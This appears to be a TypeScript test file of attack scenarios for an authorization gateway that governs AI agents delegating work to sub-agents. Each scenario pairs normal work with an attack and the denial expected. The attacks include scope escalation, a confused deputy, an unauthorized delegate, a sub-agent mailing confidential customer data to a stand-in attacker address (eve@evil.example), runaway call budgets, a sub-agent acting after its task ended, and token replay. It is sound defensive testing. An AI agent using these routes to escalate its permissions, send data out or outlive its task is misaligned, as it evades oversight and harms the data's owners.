/** Agents that work for agents, and for people who may less than they. */
import { replacing, withoutRule, type Scenario } from "../scenario.ts"
import { customer, isDone, mail, refund, ticket, TICKETS } from "./calls.ts"
import { AMY, ANN, IDA } from "./people.ts"

export const SUB_AGENT_GETS_MORE: Scenario = {
  name: "A sub-agent asks for more than the agent that hands work on to it has",
  control: "the narrowing of a grant at each step of a delegation",
  async work(world) {
    const parent = await world.begin({ agent: "desk", person: AMY, purpose: "answer-ticket", scope: ["crm.*:read"] })
    const child = await world.begin({
      agent: "writer",
      parent,
      purpose: "answer-ticket",
      scope: ["crm.tickets.get:read"],
    })
    await world.call(child, ticket("7"))
  },
  async attack(world) {
    const parent = await world.begin({ agent: "desk", person: ANN, purpose: "answer-ticket", scope: ["crm.*:read"] })
    const child = await world.begin({ agent: "writer", parent, purpose: "answer-ticket", scope: ["mail.send:write"] })
    await world.call(child, mail("eve@evil.example"))
  },
  isReached: isDone("POST", "/mail/messages"),
  denied: { code: "invalid_scope", reason: "nothing_left" },
  without: null,
  instead: {
    words: "the same request below a task that has the scope itself",
    async attack(world) {
      const scope = ["mail.send:write"]
      const parent = await world.begin({ agent: "desk", person: ANN, purpose: "answer-ticket", scope })
      const child = await world.begin({ agent: "writer", parent, purpose: "answer-ticket", scope })
      await world.call(child, mail("eve@evil.example"))
    },
  },
}

export const DEPUTY_IS_CONFUSED: Scenario = {
  name: "Somebody who may see no customer has an agent look that may see all",
  control: "the rule that says which people may, whatever their agent may",
  async work(world) {
    const session = await world.begin({ agent: "desk", person: AMY, purpose: "answer-ticket", scope: ["crm.*:read"] })
    await world.call(session, customer("42"))
  },
  async attack(world) {
    // In a plain set-up, the agent asks with an account of its own, whoever asks it.
    const person = world.narrowgate ? { person: IDA } : {}
    const session = await world.begin({ agent: "desk", ...person, purpose: "answer-ticket", scope: ["crm.*:read"] })
    await world.call(session, customer("42"))
  },
  isReached: isDone("GET", "/crm/customers/42"),
  denied: { code: "invalid_scope", reason: "nothing_left" },
  without: { "rules.cedar": replacing('principal in UserGroup::"support"', "principal is User") },
}

export const STRANGER_TAKES_OVER: Scenario = {
  name: "An agent takes part in the work of another one that may not hand it on to it",
  control: "the list of agents that an agent may delegate to",
  async work(world) {
    const parent = await world.begin({ agent: "desk", person: AMY, purpose: "answer-ticket" })
    const child = await world.begin({ agent: "researcher", parent, purpose: "answer-ticket" })
    await world.call(child, TICKETS)
  },
  async attack(world) {
    const parent = await world.begin({ agent: "desk", person: ANN, purpose: "answer-ticket" })
    const stranger = await world.begin({ agent: "visitor", parent, purpose: "answer-ticket" })
    await world.call(stranger, customer("42"))
  },
  isReached: isDone("GET", "/crm/customers/42"),
  denied: { code: "unauthorized_client", reason: "delegation_not_allowed" },
  without: {
    "agents.yaml": replacing("delegates_to: [", "delegates_to: [spiffe://example.org/agent/visitor, "),
  },
}

export const SUB_AGENT_SENDS: Scenario = {
  name: "An agent that read confidential data has a sub-agent send it out",
  control: "the rule that nothing leaves after confidential data was read anywhere in the tree of tasks",
  async work(world) {
    const parent = await world.begin({ agent: "desk", person: AMY, purpose: "answer-ticket" })
    const child = await world.begin({ agent: "writer", parent, purpose: "answer-ticket" })
    await world.call(child, mail("bob@company.example"))
  },
  async attack(world) {
    const parent = await world.begin({ agent: "desk", person: ANN, purpose: "answer-ticket" })
    await world.call(parent, customer("42"))
    const child = await world.begin({ agent: "writer", parent, purpose: "answer-ticket" })
    await world.call(child, mail("eve@evil.example", "42"))
  },
  isReached: isDone("POST", "/mail/messages"),
  denied: { code: "policy_denied", reason: "policy_forbids" },
  without: { "rules.cedar": withoutRule("nothing-leaves-after-confidential") },
}

export const SUB_AGENTS_MULTIPLY: Scenario = {
  name: "An agent hands work on again and again, and each sub-agent calls and calls",
  control: "the number of calls of the task at the root, which counts all below it",
  async work(world) {
    const parent = await world.begin({ agent: "desk", person: AMY, purpose: "refund" })
    for (let each = 1; each <= 15; each++) await world.call(parent, ticket(`t-${each}`))
    await world.call(parent, refund("o-1", 100))
  },
  async attack(world) {
    const parent = await world.begin({ agent: "desk", person: ANN, purpose: "answer-ticket" })
    for (let child = 1; child <= 4; child++) {
      const session = await world.begin({ agent: "researcher", parent, purpose: "answer-ticket" })
      for (let each = 1; each <= 16; each++) await world.call(session, ticket(`${child}-${each}`))
    }
  },
  isReached: (deeds) => deeds.length > 60,
  denied: { code: "budget_exhausted", reason: "calls_exhausted" },
  without: { "agents.yaml": replacing("calls: 60", "calls: 6000") },
}

export const SUB_AGENT_GOES_ON: Scenario = {
  name: "A sub-agent goes on after the work that it is a part of was ended",
  control: "the end of a task, which is the end of all below it",
  async work(world) {
    const parent = await world.begin({ agent: "desk", person: AMY, purpose: "answer-ticket" })
    const child = await world.begin({ agent: "researcher", parent, purpose: "answer-ticket" })
    await world.call(child, TICKETS)
    await world.complete(parent)
  },
  async attack(world) {
    const parent = await world.begin({ agent: "desk", person: ANN, purpose: "answer-ticket" })
    const child = await world.begin({ agent: "researcher", parent, purpose: "answer-ticket" })
    await world.complete(parent)
    await world.call(child, ticket("8"))
  },
  isReached: isDone("GET", "/crm/tickets/8"),
  denied: { code: "invalid_token", reason: "task_ended" },
  without: null,
  instead: {
    words: "the same call before the end",
    async attack(world) {
      const parent = await world.begin({ agent: "desk", person: ANN, purpose: "answer-ticket" })
      const child = await world.begin({ agent: "researcher", parent, purpose: "answer-ticket" })
      await world.call(child, ticket("8"))
    },
  },
}

export const TOKEN_IS_PASSED_OFF: Scenario = {
  name: "An agent presents the token of another one, which has not handed work on to it",
  control: "the hand-over that the other agent signs with its key",
  async work(world) {
    const session = await world.begin({ agent: "researcher", person: AMY, purpose: "answer-ticket" })
    await world.call(session, ticket("7"))
  },
  async attack(world) {
    const parent = await world.begin({ agent: "vault", person: ANN, purpose: "answer-ticket" })
    const child = await world.begin({ agent: "researcher", parent, purpose: "answer-ticket" })
    await world.call(child, ticket("8"))
  },
  isReached: isDone("GET", "/crm/tickets/8"),
  denied: { code: "invalid_request", reason: "handover_required" },
  without: { "agents.yaml": replacing("bound_key: true", "bound_key: false") },
}
